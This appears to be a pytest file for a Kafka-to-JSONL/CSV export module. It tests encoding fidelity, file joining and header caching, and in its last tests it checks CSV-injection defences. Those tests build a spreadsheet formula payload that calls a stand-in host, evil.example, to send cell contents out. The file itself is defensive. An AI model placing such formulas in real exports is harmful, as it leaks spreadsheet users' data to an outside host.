"""What an export writes: JSON Lines (the fast text form is byte for byte the general one) and CSV (no formulas)."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Callable
from typing import Any

import pytest
from confluent_kafka import Producer
from confluent_kafka.admin import AdminClient, NewTopic

from backbone_admin.kafka.records import EARLIEST, Record, reader
from streams.jobs.export import _jsonl_event, csv_lines, jsonl_lines, jsonl_messages, payload_bytes
from tests.conftest import independent_client_config

RECORDS = [
    Record(
        "t", 0, 0, 1_700_000_000_000, "create", b"k-1", b'{"status": "DELAYED", "note": "a \\"quoted\\" line\\n"}', ()
    ),
    Record(
        "t", 3, 17, -1, "none", None, "caf\u00e9 \u2028 \U0001f600 tab\t".encode(), (("trace", b"abc"), ("empty", None))
    ),
    Record("t", 1, 5, 1, "log_append", b"\xff\xfe", b"plain", ()),  # a binary key
    Record("t", 1, 6, 2, "create", b"k", None, (("bin", b"\x00\x80\xff"),)),  # a tombstone, a binary header
    Record("t", 2, 9, 3, "create", b"k", b"\xc3\x28", ()),  # invalid UTF-8 value
    Record("t", 2, 10, 4, "create", b"", b"", ()),
]


@pytest.mark.parametrize("record", RECORDS, ids=range(len(RECORDS)))
def test_each_line_is_what_the_general_form_writes(record: Record) -> None:
    general = _jsonl_event(record.partition, record.offset, record.timestamp, record.key, record.value, record.headers)
    assert jsonl_lines([record]) == general + b"\n"


def test_lines_are_valid_json_one_per_record_and_keep_the_bytes() -> None:
    # Split on newlines only: str.splitlines() would also split at U+2028, which JSON leaves as it is.
    lines = jsonl_lines(RECORDS).decode().split("\n")[:-1]
    assert len(lines) == len(RECORDS)
    events = [json.loads(line) for line in lines]
    assert events[1]["value"] == "caf\u00e9 \u2028 \U0001f600 tab\t"
    assert events[1]["headers"] == [["trace", "abc"], ["empty", None]]
    assert events[2]["key_encoding"] == "base64" and "value_encoding" not in events[2]
    assert events[3]["value"] is None and events[3]["headers"] == [["bin", {"base64": "AID/"}]]
    assert events[4]["value_encoding"] == "base64"
    assert jsonl_lines([]) == b""


def test_payload_bytes_is_the_records_sizes() -> None:
    assert payload_bytes(RECORDS) == sum(r.size for r in RECORDS) > 0


def test_lines_from_the_clients_messages_are_the_lines_from_records(
    kafka_admin: AdminClient, kafka_bootstrap: str, topic_name: str
) -> None:
    """The unmasked, unfiltered export writes straight from messages: byte for byte the same file."""
    kafka_admin.create_topics([NewTopic(topic_name, 1, 1)])[topic_name].result(15)
    producer = Producer(independent_client_config(kafka_bootstrap))
    for r in RECORDS:
        headers = [(name, value) for name, value in r.headers]
        producer.produce(topic_name, key=r.key, value=r.value, headers=headers or None, partition=0)
    producer.flush(15)
    with reader("local") as direct:
        direct.assign(topic_name, {0: EARLIEST})
        messages = _read_all(lambda: direct.read_messages(100, 0.2), len(RECORDS))
        assert direct.positions[0] == len(RECORDS)
    with reader("local") as plain:
        plain.assign(topic_name, {0: EARLIEST})
        records = _read_all(lambda: plain.read(100, 0.2), len(RECORDS))
    data, size = jsonl_messages(messages, 0)
    assert data == jsonl_lines(records)
    assert size == payload_bytes(records) == sum(r.size for r in RECORDS)
    assert [json.loads(line)["offset"] for line in data.split(b"\n")[:-1]] == list(range(len(RECORDS)))


def _read_all(read: Callable[[], list[Any]], count: int) -> list[Any]:
    got: list[Any] = []
    deadline = time.monotonic() + 15
    while len(got) < count and time.monotonic() < deadline:
        got.extend(read())
    assert len(got) == count
    return got


def test_parts_are_appended_whole_also_where_the_kernel_cannot_copy(tmp_path: Any, monkeypatch: Any) -> None:
    """The join copies in the kernel; a file system that refuses part-way continues in user space."""
    import errno
    import os

    from streams.jobs.export import _append, _sha256

    parts = [tmp_path / f"part-{i}" for i in range(3)]
    for i, path in enumerate(parts):
        path.write_bytes(bytes([i]) * (1_500_000 + i))
    expected = b"head" + b"".join(p.read_bytes() for p in parts)
    real = os.copy_file_range
    calls = 0

    def refuses_after_a_while(src: int, dst: int, count: int) -> int:
        nonlocal calls
        calls += 1
        if calls % 2 == 0:
            raise OSError(errno.EXDEV, "cross-device copy")
        return real(src, dst, min(count, 100_000))

    for copy in (real, refuses_after_a_while):
        monkeypatch.setattr(os, "copy_file_range", copy)
        out_path = tmp_path / f"joined-{copy.__name__}"
        with out_path.open("wb", buffering=0) as out:
            out.write(b"head")
            for path in parts:
                _append(out, path)
        assert out_path.read_bytes() == expected
    import hashlib

    assert _sha256(b"head", parts) == hashlib.sha256(expected).hexdigest()


def test_the_header_cache_stays_small_whatever_the_headers() -> None:
    """Repeated header sets are formatted once; large or ever-new ones never grow the cache past its bounds."""
    from streams.jobs import export

    export._HEADERS_JSON.clear()
    small = (("source", b"web"),)
    assert export._headers_json(small) == (b'[["source","web"]]', 9)
    assert export._headers_json((("source", b"web"),)) is export._HEADERS_JSON[small]
    large = (("blob", b"x" * (export.HEADERS_JSON_BYTES + 1)),)
    assert export._headers_json(large)[1] == export.HEADERS_JSON_BYTES + 5
    assert large not in export._HEADERS_JSON
    for i in range(3 * export.HEADERS_JSON_KEPT):
        export._headers_json((("trace", str(i).encode()),))
        assert len(export._HEADERS_JSON) <= export.HEADERS_JSON_KEPT


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(start: str) -> None:
    """OWASP CSV injection: `=HYPERLINK(...)` in a key or value never reaches a spreadsheet as a formula."""
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    records = [
        Record("t", 0, 7, 1, "create", formula.encode(), formula.encode(), ()),
        Record("t", 0, 8, 1, "create", b"plain", b"=" + bytes([0xFF]), ()),  # base64 of a binary value: `Pf8=`
        Record("t", 0, 9, 1, "create", None, b"-", ()),
    ]
    rows = list(csv.reader(io.StringIO(csv_lines(records).decode())))
    key, value, key_encoding, value_encoding = rows[0][3], rows[0][4], rows[0][6], rows[0][7]
    assert key == value == "'" + formula
    assert key_encoding == value_encoding == "escaped-text"
    assert (rows[1][3], rows[1][6]) == ("plain", "text")
    assert rows[1][7] == "base64"  # `Pf8=` does not start with a formula character
    assert (rows[2][4], rows[2][6], rows[2][7]) == ("'-", "null", "escaped-text")
    # Dropping the first character of an escaped cell gives the value back.
    assert rows[0][4][1:].encode() == formula.encode()


def test_a_base64_cell_that_starts_like_a_formula_is_neutralised_too() -> None:
    value = bytes([0xFB, 0xEF, 0xFF])  # base64 `++//`
    [row] = list(csv.reader(io.StringIO(csv_lines([Record("t", 0, 1, 1, "create", None, value, ())]).decode())))
    assert (row[4], row[7]) == ("'++//", "escaped-base64")
